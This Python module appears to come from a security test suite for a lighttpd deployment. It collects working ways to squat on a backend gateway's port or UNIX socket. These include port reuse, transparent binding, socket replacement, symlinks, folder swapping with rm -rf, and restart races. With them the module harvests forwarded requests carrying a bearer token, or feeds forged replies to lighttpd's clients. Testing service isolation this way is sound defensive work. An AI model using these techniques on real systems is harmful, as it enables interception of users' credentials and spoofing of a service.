"""Ways to take the gateway's place: each returns what lighttpd then sends there, or raises OSError."""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

import reach
import users

TIMEOUT = 4.0
PATIENCE = 20.0  # seconds that a restart may take


def ask_lighttpd(site: str) -> str:
    """Send a client's request with a secret to lighttpd; return the first line of the answer."""
    request = "GET {} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer secret\r\nConnection: close\r\n\r\n"
    where, _, path = site.partition("/")
    return reach.plain(where, request.format("/" + path))


def keep_asking(site: str, enough: threading.Event) -> None:
    """Be lighttpd's clients for a while; it leaves a listener alone for a second or two that has refused it."""
    while not enough.wait(0.2):
        with contextlib.suppress(OSError):  # it may find nobody, or wait for the squatter's answer
            ask_lighttpd(site)


def harvest(listener: socket.socket, site: str) -> str:
    """Return the first line that lighttpd sends to a listener."""
    listener.listen()
    listener.settimeout(TIMEOUT)
    enough = threading.Event()
    client = threading.Thread(target=keep_asking, args=(site, enough))
    client.start()
    end = time.monotonic() + TIMEOUT
    try:
        while time.monotonic() < end:
            with contextlib.suppress(TimeoutError), listener.accept()[0] as connection:
                connection.settimeout(TIMEOUT / 4)  # it may belong to a client who has given up
                if sent := connection.recv(4096):
                    return sent.decode("latin-1").splitlines()[0]
        raise TimeoutError("lighttpd sends nothing here")
    finally:
        enough.set()
        listener.close()
        client.join()


def port(to: str, site: str, option: str = "") -> str:
    """Listen where the gateway does; `option`: reuseport, transparent, or a device."""
    family, where = reach.address(to)
    with socket.socket(family, socket.SOCK_STREAM) as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if option == "reuseport":
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        elif option == "transparent":
            listener.setsockopt(socket.SOL_IP, reach.IP_TRANSPARENT, 1)
        elif option:
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, option.encode())
        listener.bind(where)
        return harvest(listener, site)


def serve(listener: socket.socket) -> str:
    """Answer what comes, for a while."""
    listener.settimeout(TIMEOUT / 4)
    end = time.monotonic() + TIMEOUT
    while time.monotonic() < end:
        with contextlib.suppress(OSError), listener.accept()[0] as connection:
            connection.recv(4096)
            connection.sendall(b"HTTP/1.0 203 Foreign\r\nContent-Length: 0\r\n\r\n")
    return "served"


def told(site: str) -> str:
    """Ask lighttpd until it passes on what `serve` answers."""
    end, line = time.monotonic() + TIMEOUT, ""
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            line = ask_lighttpd(site)
        if " 203" in line:
            return line
        time.sleep(0.2)
    raise TimeoutError(f"lighttpd passes on nothing from here: {line}")


def answer(to: str, site: str, user: str) -> str:
    """Give a user a listener in the gateway's place; return what he makes lighttpd's clients believe."""
    _, where = reach.address(to)
    with socket.create_server(where) as listener, ThreadPoolExecutor(1) as clients:
        believed = clients.submit(told, site)
        users.run(lambda: serve(listener), user)
        return believed.result()


def path(to: str, site: str) -> str:
    """Put a socket of one's own in the place of the gateway's."""
    if os.path.lexists(to):
        os.unlink(to)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(to)
        os.chmod(to, 0o666)
        return harvest(listener, site)


def link(to: str, site: str, own: str) -> str:
    """Put a symbolic link to a socket of one's own in the place of the gateway's."""
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(own)
        os.chmod(own, 0o666)
        try:
            if os.path.lexists(to):
                os.unlink(to)
            os.symlink(own, to)
            return harvest(listener, site)
        finally:
            os.unlink(own)


def folder(to: str, site: str) -> str:
    """Put the whole folder of the gateway's socket aside, and one's own there."""
    place = os.path.dirname(to)
    os.rename(place, place + ".aside")
    try:
        os.mkdir(place)
        return path(to, site)
    finally:
        subprocess.run(["rm", "-rf", place], check=True)
        os.rename(place + ".aside", place)


def removed(to: str) -> str:
    """Take the gateway's socket away."""
    os.unlink(to)
    return "removed"


def until_free(to: str) -> str:
    """Try without a pause to take the address, for as long as a restart may take."""
    family, where = reach.address(to)
    end, reason = time.monotonic() + PATIENCE, OSError("never tried")
    while time.monotonic() < end and not os.path.exists("/run/attacks/restarted"):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as listener:
                listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                if family == socket.AF_UNIX and os.path.lexists(to):
                    os.unlink(to)
                listener.bind(where)
                return "taken"
        except OSError as error:
            reason = error
    raise reason


WAYS: dict[str, Callable[..., str]] = {
    "squat_port": port,
    "squat_answer": answer,
    "squat_path": path,
    "squat_link": link,
    "squat_folder": folder,
    "remove_path": removed,
    "squat_until_free": until_free,
}
